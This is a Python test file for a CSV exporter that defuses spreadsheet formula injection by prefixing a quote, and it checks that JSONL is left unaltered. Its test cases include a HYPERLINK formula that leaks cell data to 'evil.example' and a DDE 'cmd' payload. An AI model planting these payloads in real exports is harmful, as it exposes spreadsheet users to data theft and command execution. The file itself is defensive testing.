"""CSV exports are opened in spreadsheets: a cell that starts a formula is written inert
(OWASP's rule: a leading ``'``) unless the export is raw; JSONL is never altered."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from playline.datasets.csv_io import RowFile, inert_formula, write_csv


@pytest.mark.parametrize(
    ("text", "written"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"click")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
        ),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(1,1)", "'@SUM(1,1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-", "'-"),
        ("- item", "'- item"),
        # plain numbers are numbers, not formulas
        ("-5", "-5"),
        ("+1.5", "+1.5"),
        ("-.5", "-.5"),
        ("-1e-3", "-1e-3"),
        ("1e3", "1e3"),
        # nothing to do
        ("Acme = Inc", "Acme = Inc"),
        ("", ""),
        ("a@b.example", "a@b.example"),
    ],
)
def test_formula_cells_get_a_leading_quote_and_numbers_do_not(text: str, written: str) -> None:
    assert inert_formula(text) == written


def read(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def test_a_csv_export_is_inert_by_default_and_as_it_is_when_raw(tmp_path: Path) -> None:
    columns = ["=cmd", "name", "score"]
    rows = [{"=cmd": "@x", "name": "=1+1", "score": -5}, {"name": ["=a"], "score": "+2"}]
    write_csv(tmp_path / "inert.csv", columns, rows)
    write_csv(tmp_path / "raw.csv", columns, rows, raw=True)
    assert read(tmp_path / "inert.csv") == [
        ["'=cmd", "name", "score"],
        ["'@x", "'=1+1", "-5"],
        ["", '["=a"]', "+2"],
    ]
    assert read(tmp_path / "raw.csv") == [
        ["=cmd", "name", "score"],
        ["@x", "=1+1", "-5"],
        ["", '["=a"]', "+2"],
    ]


def test_a_jsonl_export_is_never_altered(tmp_path: Path) -> None:
    path = tmp_path / "rows.jsonl"
    with RowFile(path, "jsonl") as out:
        out.write_rows([{"name": "=1+1"}])
        out.commit()
    assert json.loads(path.read_text()) == {"name": "=1+1"}
